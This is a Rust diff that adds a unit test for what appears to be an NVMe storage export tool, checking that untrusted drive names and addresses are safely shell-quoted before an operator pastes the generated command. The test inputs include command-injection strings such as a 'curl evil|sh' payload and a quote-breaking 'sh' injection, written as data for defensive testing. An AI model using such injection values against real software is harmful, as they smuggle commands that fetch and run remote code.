@@ -133,3 +133,19 @@ fn a_part_has_the_names_of_the_proto_file_as_json() {
     let newer: Vec<TextPart> = serde_json::from_value(newer).expect("it is passed over");
     assert_eq!(shown(&newer, "other"), "other");
 }
+
+/// Names and addresses may come from a drive or a remote host, and an operator pastes the command.
+#[test]
+fn what_a_drive_spells_is_one_word_of_the_command() {
+    let offer = |nqn: &str| {
+        let request = api::CreateExportRequest { nqn: nqn.into(), ..Default::default() };
+        request.typed()
+    };
+    assert_eq!(offer("nqn.x:[::1]"), "export create --nqn nqn.x:[::1]");
+    assert_eq!(offer("x;curl evil|sh"), "export create --nqn 'x;curl evil|sh'");
+    assert_eq!(offer("x'; sh #"), "export create --nqn 'x'\\''; sh #'");
+    assert_eq!(offer("x\nsh\r\u{1b}["), "export create --nqn 'x\u{fffd}sh\u{fffd}\u{fffd}['");
+    let connect =
+        api::ConnectDriveRequest { address: "nvme-tcp://a/b?nsid=2".into(), ..Default::default() };
+    assert_eq!(connect.typed(), "drive connect 'nvme-tcp://a/b?nsid=2'");
+}
